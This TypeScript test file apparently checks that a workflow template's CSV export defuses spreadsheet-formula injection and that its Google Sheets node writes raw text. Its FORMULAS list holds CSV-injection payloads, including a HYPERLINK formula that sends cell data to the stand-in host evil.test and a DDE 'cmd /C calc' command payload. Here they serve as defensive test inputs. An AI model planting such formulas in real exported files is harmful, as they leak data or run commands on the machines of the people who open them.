import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { SPREADSHEET } from '../../../dev/demo/examples';
import { itemsOf, runWorkflow } from '../../../dev/host/executions';
import { request } from '../../../dev/host/request';
import { readTemplate } from '../../../dev/host/template';
import { openStage, type Stage } from './stage';
import { importTemplate, nodeNamed } from './template';

/** What a spreadsheet program takes for a formula (OWASP, "CSV Injection"). */
const FORMULAS = [
	'=HYPERLINK("https://evil.test/?"&A1,"Open")',
	"=cmd|' /C calc'!A0",
	'+1+1',
	'-1+1',
	'@SUM(1,1)',
	'\t=1+1',
	'\r=1+1',
	'\n=1+1',
];

const HARMLESS = ['Website', 'a=b', '3-2', "It's fine", ' =1+1', ''];

let stage: Stage;

beforeAll(async () => (stage = await openStage(0)));
afterAll(async () => await stage.sandbox.close());

test('a project name that would be a formula in a spreadsheet begins with an apostrophe in the file', async () => {
	for (const name of [...FORMULAS, ...HARMLESS]) {
		stage.sandbox.projects.create({ name, description: name, task_count: 3 });
	}
	const workflow = await importTemplate(stage, SPREADSHEET);
	const execution = await runWorkflow(stage.session, workflow, 'Run by Hand');
	const [item] = itemsOf(execution, 'Make a CSV File');
	const csv = await textOf(item?.binary?.['data']);
	const rows = parse<Record<string, string>>(csv, { columns: true, bom: true });
	const expected = [...FORMULAS.map((formula) => `'${formula}`), ...HARMLESS].sort();
	expect(rows.map(({ name }) => name).sort()).toEqual(expected);
	expect(rows.map(({ description }) => description).sort()).toEqual(expected);
	expect(new Set(rows.map((row) => row['task_count']))).toEqual(new Set(['3']));
});

test('Google Sheets takes what it gets for text, never for a formula', async () => {
	const file = join(__dirname, '..', '..', '..', 'examples', 'sync-projects-to-google-sheets.json');
	const { parameters } = nodeNamed(await readTemplate(file), 'Add or Update Rows');
	expect(parameters['options']).toEqual({ cellFormat: 'RAW' });
});

/** n8n keeps what a file holds in the execution, in base64, or beside it. */
async function textOf(binary: unknown): Promise<string> {
	const { data = '', id } = binary as { data?: string; id?: string };
	if (id === undefined) return Buffer.from(data, 'base64').toString('utf8');
	const { url, cookie } = stage.session;
	const query = new URLSearchParams({ id, action: 'download' }).toString();
	const answer = await request(`${url}/rest/binary-data?${query}`, { headers: { Cookie: cookie } });
	return await answer.text();
}
